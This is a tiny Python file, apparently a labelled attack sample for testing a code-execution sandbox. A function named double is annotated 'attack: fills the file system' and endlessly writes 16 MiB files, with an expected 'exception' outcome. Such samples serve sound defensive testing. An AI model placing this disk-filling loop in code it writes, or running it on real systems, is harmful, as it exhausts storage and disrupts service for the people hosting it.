# task: double
# outcome: exception
# attack: fills the file system
def double(x):
    number = 0
    while True:
        number += 1
        with open(f"f{number}", "wb") as file:
            file.write(bytes(1 << 24))
